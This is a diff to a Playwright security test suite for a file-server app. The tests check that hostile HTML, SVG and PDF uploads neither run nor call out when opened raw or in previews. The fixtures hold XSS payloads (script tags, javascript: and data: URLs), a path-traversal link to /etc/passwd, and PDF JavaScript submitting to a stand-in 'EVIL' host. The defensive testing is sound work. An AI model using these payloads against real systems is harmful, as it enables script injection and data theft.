@@ -72,29 +72,30 @@ const PAGE_IN_BOOK = `<script>${XML_SCRIPT}</script><script src="EVIL/script.js"
 <video src="EVIL/video" poster="EVIL/poster" autoplay=""/><audio src="EVIL/audio"/><a id="body" name="documentElement" ping="EVIL/ping" href="javascript:alert(1)">run</a><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a><a href="../../../../../../etc/passwd">up</a>`
 
 test.describe('of hostile files (A5-8)', () => {
-  test('opened by its own address, no kind of page runs or calls anybody (CVE-2021-37794, CVE-2023-39612, CVE-2023-41471)', async ({
-    page,
-    served,
-    complaints,
-  }) => {
-    // What the browser says about each thing it did not do.
-    complaints.foresee(/./)
-    await withAttacker(page, async (attacker) => {
-      for (const [name, content] of Object.entries(PAGES)) await served.write(name, armed(content, attacker))
-      await signIn(page, served)
-      for (const name of Object.keys(PAGES)) {
-        await test.step(name, async () => {
-          const address = `${served.url}/api/raw/${name}?inline=true`
-          const { headers } = await headersOf(page, address)
-          expect(headers['x-content-type-options']).toBe('nosniff')
-          expect(headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
-          await openRaw(page, address)
-          await openInFrame(page, served.url, address)
-          await expectHarmless(page, served.url, attacker)
-        })
-      }
-    })
-  })
+  test(
+    'opened by its own address, no kind of page runs or calls anybody (CVE-2021-37794, CVE-2023-39612, CVE-2023-41471)',
+    { tag: '@whole' },
+    async ({ page, served, complaints }) => {
+      // What the browser says about each thing it did not do.
+      complaints.foresee(/./)
+      await withAttacker(page, async (attacker) => {
+        for (const [name, content] of Object.entries(PAGES)) await served.write(name, armed(content, attacker))
+        await signIn(page, served)
+        for (const name of Object.keys(PAGES)) {
+          await test.step(name, async () => {
+            const address = `${served.url}/api/raw/${name}?inline=true`
+            const { headers } = await headersOf(page, address)
+            expect(headers['x-content-type-options']).toBe('nosniff')
+            expect(headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
+            // From the listing, where the last one ended.
+            await openInFrame(page, address)
+            await openRaw(page, address)
+            await expectHarmless(page, served.url, attacker)
+          })
+        }
+      })
+    },
+  )
 
   test('pictures in the preview and the listing are only pictures (GHSA-mmpx-jh39-wrv6)', async ({ page, served, complaints }) => {
     complaints.foresee(/Failed to load resource|The policy forbade/)
@@ -103,8 +104,11 @@ test.describe('of hostile files (A5-8)', () => {
         await served.write(name, armed(PAGES[name] ?? '', attacker))
       await served.write('z.png', PNG)
       await signIn(page, served, '/files/foreign.svg')
-      for (const name of ['foreign.svg', 'outside.svg', 'picture.gif', 'picture.jpg', 'script.svg', 'z.png']) {
+      const names = ['foreign.svg', 'outside.svg', 'picture.gif', 'picture.jpg', 'script.svg', 'z.png']
+      for (const [at, name] of names.entries()) {
         await expect(page.getByRole('heading', { name, exact: true })).toBeVisible()
+        // The arrow leads on once it is known what comes next.
+        await expect(page.getByText(`${at + 1} of ${names.length}`)).toBeAttached()
         await page.keyboard.press('ArrowRight')
       }
       await expectHarmless(page, served.url, attacker)
@@ -173,7 +177,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('a PDF with JavaScript reaches neither the page nor anybody else', async ({ page, served, complaints }) => {
+  test('a PDF with JavaScript reaches neither the page nor anybody else', { tag: '@whole' }, async ({ page, served, complaints }) => {
     complaints.foresee(/The policy forbade|Content Security Policy/)
     await withAttacker(page, async (attacker) => {
       await served.write('form.pdf', armed(pdfThatRuns(`app.alert(1);this.submitForm("EVIL/pdf");app.launchURL("EVIL/launch")`), attacker))
@@ -337,8 +341,7 @@ async function openRaw(page: Page, address: string): Promise<void> {
 }
 
 /** As a page of ours that frames it. */
-async function openInFrame(page: Page, origin: string, address: string): Promise<void> {
-  await page.goto(`${origin}/files/`)
+async function openInFrame(page: Page, address: string): Promise<void> {
   await expect(page.getByRole('grid')).toBeVisible()
   await page.evaluate(
     (src) =>
